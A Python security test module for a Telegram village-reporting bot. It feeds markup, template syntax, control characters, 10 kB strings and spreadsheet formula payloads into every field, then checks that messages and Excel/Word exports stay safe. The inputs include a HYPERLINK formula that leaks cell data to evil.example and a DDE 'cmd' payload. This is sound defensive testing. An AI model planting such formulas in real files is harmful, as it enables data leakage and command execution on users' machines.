"""Injection: HTML/Markdown/Jinja syntax, control characters, right-to-left marks and 10 kB strings in every
free-text answer, a village name, the reporter's name and every form label.

Every message the bot sends (to anyone) must parse as Telegram HTML with the emulator's strict parser
and stay within Telegram's limits; summaries render; the Excel export never contains a formula made of
user text; the Word export opens and contains the text literally.
"""

from __future__ import annotations

import io
import re
import shutil
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest
import yaml
from sqlalchemy.engine import Engine

from bot.emulator.tghtml import EntityParseError, parse_html, utf16_len
from bot.forms.loader import MAX_CHOICE_LABEL, MAX_LABEL, MAX_TITLE, load_form_file
from bot.texts.templates import render
from bot.views.summary import render_summary_messages
from storage.db import session_scope
from storage.models import Period, Submission
from tests.security.conftest import Figures
from tests.security.world import (
    COMMUNE_X,
    INVITES,
    NOW,
    POLICE_X,
    ROOT,
    SUPERVISOR,
    start_world,
)
from tests.support.client import BotClient
from tests.support.telegram import DocumentRecorder, FakeUser

pytestmark = pytest.mark.security

EVIL = "<b>{{ 7*7 }}</code>{% raw %}{# c #} *đậm* _nghiêng_ `mã` [x](http://evil.example) \u202eRTL\u200f\u2066 &amp; & \"'"
CONTROL = "\x01\x07\x08\x0b\x0c\x1b[31m\x7f"
TEN_KB = ("Ấp <i>&#" + "x" * 20 + "</i> {{ 1 }} ")[:40] * 256  # 10 240 characters
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"EVIL")',
    "+EVIL()+1",
    "-EVIL()-1",
    "@EVIL(A1)",
    "=cmd|' /C calc'!EVIL",
]
EVIL_VILLAGE = "Thôn <b>Nà</b> {{ 7*7 }} \u202e& Mới"
FORMULA_VILLAGE = "=EVIL()+Thôn Cũ"
HEAD_E = FakeUser(7201, "<b>Ê</b> {{ 7*7 }} </code>", "\u202e&amp;")  # head of the evil village
TELEGRAM_TEXT_LIMIT, TELEGRAM_CAPTION_LIMIT = 4096, 1024


def _label(text: str) -> str:
    return f"{EVIL} {text}"


def _evil_form(path: Path, *, big: bool, at_limits: bool = False) -> None:
    """The shipped 6-month form with every title and label (and choice label) prefixed by EVIL (or 10 kB);
    `at_limits`: the 10 kB prefix cut so that each text is exactly as long as the loader allows."""
    form = yaml.safe_load((ROOT / "deploy" / "forms" / "bao-cao-6-thang.yaml").read_text(encoding="utf-8"))
    prefix = TEN_KB if big or at_limits else EVIL

    def grow(text: str, limit: int, literal: str | None = None) -> str:
        start = literal or prefix
        if not at_limits:
            return f"{start} {text}"
        cut = start[: limit - len(text) - 1]
        for brace in "{}":  # a cut between the two braces of "{{" would leave a lone one: fill its place
            if (len(cut) - len(cut.rstrip(brace))) % 2:
                cut = cut[:-1] + "x"
        return f"{cut} {text}"

    # A question text may name the period ({ky}); a brace meant literally is written twice (docs/forms.md).
    # TEN_KB's braces are pairs already ("{{ 1 }}"); EVIL's are written twice so they show as they are.
    literal_label = prefix if prefix is TEN_KB else prefix.replace("{", "{{").replace("}", "}}")

    def walk(questions: list[dict[str, Any]]) -> None:
        for q in questions:
            if "label" in q:
                q["label"] = grow(q["label"], MAX_LABEL, literal_label)
            for choice in q.get("choices") or []:
                if isinstance(choice, dict) and not big:
                    choice["label"] = (
                        grow(choice["label"], MAX_CHOICE_LABEL)
                        if at_limits
                        else (f"{EVIL[:40]} {choice['label']}")
                    )
            walk(q.get("questions") or [])

    form["title"] = grow(form["title"], MAX_TITLE)
    for section in form.get("sections") or []:
        if "title" in section:
            section["title"] = grow(section["title"], MAX_TITLE)
        walk(section.get("questions") or [])
    walk(form.get("questions") or [])
    path.write_text(yaml.safe_dump(form, allow_unicode=True), encoding="utf-8")


def _setup(tmp_path: Path, *, big: bool = False, at_limits: bool = False):
    (tmp_path / "forms").mkdir(exist_ok=True)
    _evil_form(tmp_path / "forms" / "bao-cao-6-thang.yaml", big=big, at_limits=at_limits)
    shutil.copy(ROOT / "deploy" / "forms" / "su-co.yaml", tmp_path / "forms" / "su-co.yaml")

    def edit(data: dict[str, Any]) -> None:
        for commune in data["communes"]:
            commune["forms"] = ["forms/bao-cao-6-thang.yaml", "forms/su-co.yaml"]
            commune["schedules"] = [commune["schedules"][0]]
        data["communes"][0]["villages"] += [EVIL_VILLAGE, FORMULA_VILLAGE]

    return edit


@pytest.fixture
async def evil_world(
    engine: Engine, database_url: str, tmp_path: Path, figures: Figures
) -> AsyncIterator[BotClient]:
    """The world with evil labels, an evil village (and its evil-named head) and a formula-named village."""
    users = [*INVITES, (HEAD_E, {"role": "village_head", "village": EVIL_VILLAGE, "commune": COMMUNE_X})]
    async for w in start_world(
        engine,
        database_url,
        figures=figures,
        edit=_setup(tmp_path),
        setup_path=tmp_path / "security.yaml",
        users=users,
    ):
        yield w


def check_messages(world: BotClient, figures: Figures) -> list[str]:
    """Every text and caption the bot sent parses as Telegram HTML within limits; returns the plain texts."""
    plain, problems = [], []
    for call in world.request.calls:
        if call.method in ("sendMessage", "editMessageText"):
            raw, limit = call.params["text"], TELEGRAM_TEXT_LIMIT
        elif call.method in ("sendPhoto", "sendDocument") and call.params.get("caption"):
            raw, limit = call.params["caption"], TELEGRAM_CAPTION_LIMIT
        else:
            continue
        try:
            text, _ = parse_html(raw)
        except EntityParseError as err:
            problems.append(f"{call.method} to {call.params.get('chat_id')}: {err}: {raw[:300]!r}")
            continue
        if not 0 < utf16_len(text) <= limit:
            problems.append(f"{call.method}: {utf16_len(text)} UTF-16 units (limit {limit})")
        for row in (call.params.get("reply_markup") or {}).get("inline_keyboard", []):
            for button in row:
                if len(button.get("callback_data", "").encode()) > 64 or not button.get("text"):
                    problems.append(f"bad button {button}")
        plain.append(text)
    assert not problems, "\n".join(problems)
    evaluated = [t for t in plain if "<b>49" in t or "49</code>" in t]
    assert not evaluated, f"template syntax was evaluated: {evaluated[:2]}"
    figures.check("messages validated", len(plain))
    return plain


async def walk_with(world: BotClient, user: FakeUser, figures: Figures, tries: list[str]) -> int:
    """Answer every question, offering each string of `tries` before a plain "3"; returns texts accepted."""
    accepted = stored = 0
    for _ in range(200):
        tokens = world.tokens(user)
        if "confirm" in tokens:
            return accepted
        pick = next((c for c in ("submit", "more:y" if accepted < 3 else "more:n", "ok:0", "d:yday", "c:0", "n")
                     if c in tokens), None)  # fmt: skip
        if pick == "more:y" and "more:y" not in tokens:
            pick = None
        if pick is not None:
            await world.press_token(user, pick)
            continue
        if "t:0" in tokens:
            await world.press_token(user, "t:0")
            await world.press_token(user, "done")
            continue
        before = world.texts(user)[-1]
        formula = FORMULAS[stored % len(FORMULAS)]
        first = [formula, *tries] if accepted % 2 else [*tries, formula]  # alternate which kind is stored
        for text in [*first, "3", "0"]:
            await world.send(user, text)
            figures.fault("injected text")
            if "⚠️" not in world.texts(user)[-1] and world.texts(user)[-1] != before:
                accepted += text not in ("3", "0")
                stored += text == formula
                break
        else:
            raise AssertionError(f"nothing accepted: {world.texts(user)[-2:]}")
    raise AssertionError("the form never reached its confirmation")


async def test_evil_text_everywhere_in_the_conversation(evil_world: BotClient, figures: Figures) -> None:
    """10 kB, control characters and markup in every answer, label and name: every message stays valid."""
    await evil_world.send(HEAD_E, "/baocao")
    await evil_world.press_token(HEAD_E, evil_world.last_keyboard(HEAD_E)[1][0])
    accepted = await walk_with(evil_world, HEAD_E, figures, [TEN_KB, CONTROL + EVIL, EVIL])
    assert accepted >= 3
    await evil_world.press_token(HEAD_E, "confirm")
    await evil_world.send(HEAD_E, "/suco")
    await evil_world.send(HEAD_E, TEN_KB)
    await evil_world.send(HEAD_E, "/help")
    plain = check_messages(evil_world, figures)
    assert any("{{ 7*7 }}" in t and "<b>" in t for t in plain)  # shown literally, not evaluated or dropped
    assert any(EVIL_VILLAGE in t for t in plain)
    (sub,) = evil_world.submissions()
    texts = [v for v in sub.answers.values() if isinstance(v, str)]
    assert any("{{ 7*7 }}" in v for v in texts) and any(v.startswith(tuple("=+-@")) for v in texts)


async def _submit_evil_report(world: BotClient, figures: Figures) -> int:
    await world.send(HEAD_E, "/baocao")
    await world.press_token(HEAD_E, world.last_keyboard(HEAD_E)[1][0])
    await walk_with(world, HEAD_E, figures, [CONTROL + EVIL])
    await world.press_token(HEAD_E, "confirm")
    (sub,) = world.submissions()
    return sub.period_id


def _file_formula_report(world: BotClient, period_id: int) -> None:
    """The formula-named village files a report whose every free text is a formula (stored directly)."""
    (sub,) = world.submissions()
    answers = dict(sub.answers)
    answers.update(de_nghi_khen_thuong=FORMULAS[0], kho_khan=FORMULAS[1], de_xuat=FORMULAS[2])
    answers["so_vu_viec"] = 2
    answers["vu_viec"] = [{"ngay": "2026-05-01", "loai": "khac", "mo_ta": f} for f in FORMULAS[3:]]
    with session_scope(world.engine) as s:
        s.add(
            Submission(
                village_id=world.village_id(FORMULA_VILLAGE),
                form_id=sub.form_id,
                period_id=period_id,
                form_version=sub.form_version,
                answers=answers,
                sent_at=sub.sent_at,
                received_at=sub.received_at,
                receipt="BC-EVIL01",
            )
        )


async def test_summaries_render_evil_reports(evil_world: BotClient, figures: Figures) -> None:
    """/tonghop, the village's report, its long answers in full and the province roll-up stay valid."""
    period_id = await _submit_evil_report(evil_world, figures)
    village_id = evil_world.village_id(EVIL_VILLAGE)
    await evil_world.send(POLICE_X, "/tonghop")
    await evil_world.press(POLICE_X, f"sm:s:{period_id}:{village_id}")
    for index in range(40):
        await evil_world.press(POLICE_X, f"sm:t:{period_id}:{village_id}:{index}")
    await evil_world.press(POLICE_X, f"sm:v:{period_id}:0")
    await evil_world.send(SUPERVISOR, "/tonghop")
    await evil_world.press(SUPERVISOR, f"sm:r:{period_id}")
    plain = check_messages(evil_world, figures)
    shown = "\n".join(t for t in plain if EVIL_VILLAGE in t)
    assert "{{ 7*7 }}" in shown and "[x](http://evil.example)" in shown
    with session_scope(evil_world.engine) as s:
        period = s.get(Period, period_id)
        messages = render_summary_messages(s, period, None, evil_world.clock())
    assert messages
    for text, _buttons in messages:
        body, _ = parse_html(text)
        assert 0 < utf16_len(body) <= TELEGRAM_TEXT_LIMIT


async def test_a_nul_character_in_an_answer(evil_world: BotClient, figures: Figures) -> None:
    """A NUL typed into an answer neither breaks the conversation nor the police's summary and exports."""
    await evil_world.send(HEAD_E, "/baocao")
    await evil_world.press_token(HEAD_E, evil_world.last_keyboard(HEAD_E)[1][0])
    await walk_with(evil_world, HEAD_E, figures, ["a\x00b " + EVIL])
    await evil_world.press_token(HEAD_E, "confirm")
    figures.fault("NUL in answer")
    (sub,) = evil_world.submissions()
    assert not any("\x00" in str(v) for v in sub.answers.values())  # dropped when typed
    await evil_world.send(POLICE_X, "/tonghop")
    await evil_world.press(POLICE_X, f"sm:s:{sub.period_id}:{sub.village_id}")
    for fmt in ("xlsx", "docx"):
        await evil_world.press(POLICE_X, f"xe:{sub.period_id}:{fmt}")
    assert render("common/error.html") not in evil_world.texts(POLICE_X)
    assert len([c for c in evil_world.request.calls if c.method == "sendDocument"]) == 2
    check_messages(evil_world, figures)


async def _export(world: BotClient, figures: Figures, fmt: str) -> bytes:
    period_id = await _submit_evil_report(world, figures)
    _file_formula_report(world, period_id)
    await world.press(POLICE_X, f"xe:{period_id}:{fmt}")
    assert isinstance(world.request, DocumentRecorder)
    files = [parts["document"] for method, _params, parts in world.request.files if method == "sendDocument"]
    assert len(files) == 1, world.texts(POLICE_X)[-2:]
    _name, content, _mime = files[0]
    check_messages(world, figures)
    return content.read() if hasattr(content, "read") else content


async def test_excel_export_neutralises_formulas(evil_world: BotClient, figures: Figures) -> None:
    """No cell made of user text is a formula, whatever it starts with; the text itself is kept."""
    content = await _export(evil_world, figures, "xlsx")
    wb = openpyxl.load_workbook(io.BytesIO(content))
    seen, formulas = [], []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and ("EVIL" in value or "evil.example" in value):
                    seen.append(value)
                    if cell.data_type == "f" or (value.startswith("=") and cell.data_type != "s"):
                        formulas.append(f"{ws.title}!{cell.coordinate}: {value!r} ({cell.data_type})")
    figures.check("formula payloads in cells", len(seen))
    assert not formulas, formulas
    kept = {v.lstrip("'") for v in seen}
    assert set(FORMULAS) <= kept, set(FORMULAS) - kept  # every formula is there, as text
    assert any(FORMULA_VILLAGE in v for v in seen)  # the formula-like village name is a text cell too


async def test_word_export_opens_and_contains_the_text_literally(
    evil_world: BotClient, figures: Figures
) -> None:
    """The .docx opens with python-docx and shows markup, template syntax and formulas as typed."""
    content = await _export(evil_world, figures, "docx")
    document = docx.Document(io.BytesIO(content))
    parts = [p.text for p in document.paragraphs]
    for table in document.tables:
        parts += [cell.text for row in table.rows for cell in row.cells]
    text = "\n".join(parts)
    visible = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", "", EVIL)
    assert visible in text or EVIL.replace("\u202e", "").replace("\u2066", "") in text, text[:2000]
    assert "{{ 7*7 }}" in text and "49</code>" not in text
    assert EVIL_VILLAGE in text and FORMULA_VILLAGE in text
    assert all(f in text for f in FORMULAS[:3]), [f for f in FORMULAS if f not in text]


def test_ten_kilobyte_form_labels_are_refused_when_loaded(tmp_path: Path, figures: Figures) -> None:
    """A form whose title and labels are 10 kB each is refused by the loader, every over-long text named
    in one go (in Vietnamese), so `baocao setup` stores nothing (form_version.title is varchar(300))."""
    _setup(tmp_path, big=True)
    result = load_form_file(tmp_path / "forms" / "bao-cao-6-thang.yaml")
    figures.fault("10 kB labels")
    assert not result.forms
    errors = [str(e) for e in result.errors]
    too_long = [e for e in errors if "dài quá" in e]
    form = yaml.safe_load((ROOT / "deploy" / "forms" / "bao-cao-6-thang.yaml").read_text(encoding="utf-8"))
    labels = sum(1 for section in form["sections"] for _ in _labels(section["questions"]))
    assert any("'title' dài quá" in e and f"tối đa {MAX_TITLE}" in e for e in too_long), errors[:3]
    assert sum("'label' dài quá" in e for e in too_long) == labels, errors[:3]
    assert all(len(e) < 500 for e in errors)  # the message quotes the start of the text, not all of it


def _labels(questions: list[dict[str, Any]]) -> list[str]:
    out = []
    for q in questions:
        if "label" in q:
            out.append(q["label"])
        out += _labels(q.get("questions") or [])
    return out


async def test_form_labels_at_the_loader_limits(
    engine: Engine, database_url: str, tmp_path: Path, figures: Figures
) -> None:
    """Title, section titles, labels and choice labels exactly as long as allowed: loaded and stored (also on
    PostgreSQL), and every screen of the walk is still one valid message."""
    users = [INVITES[0]]
    async for world in start_world(
        engine,
        database_url,
        figures=figures,
        edit=_setup(tmp_path, at_limits=True),
        setup_path=tmp_path / "security.yaml",
        users=users,
    ):
        head = users[0][0]
        await world.send(head, "/baocao")
        await world.press_token(head, world.last_keyboard(head)[1][0])
        await walk_with(world, head, figures, [])
        await world.press_token(head, "confirm")
        figures.fault("labels at the limits")
        check_messages(world, figures)
        assert len(world.submissions()) == 1
        assert "Mã biên nhận" in world.texts(head)[-1]


def test_the_view_cuts_what_the_loader_would_refuse() -> None:
    """A form built past the loader (e.g. stored before the limits): screens split, buttons cut."""
    from bot.forms import engine as form_engine
    from bot.forms.model import Choice, Form, QType, Question
    from bot.views.form import MAX_BUTTON_TEXT, MAX_TEXT, render_events, tg_len

    choices = tuple(Choice(f"c{i}", f"{i} {TEN_KB[:300]}") for i in range(3))
    q = Question(id="q", type=QType.SINGLE_CHOICE, label=TEN_KB, hint=TEN_KB, choices=choices)
    form = Form("f", TEN_KB, 1, (q,))
    step = form_engine.start(form, NOW)
    screens = render_events(form, step.state, step.events)
    assert len(screens) > 1
    for screen in screens:
        parse_html(screen.text)
        assert 0 < tg_len(screen.text) <= MAX_TEXT
        assert all(len(b.label) <= MAX_BUTTON_TEXT for row in screen.buttons for b in row)
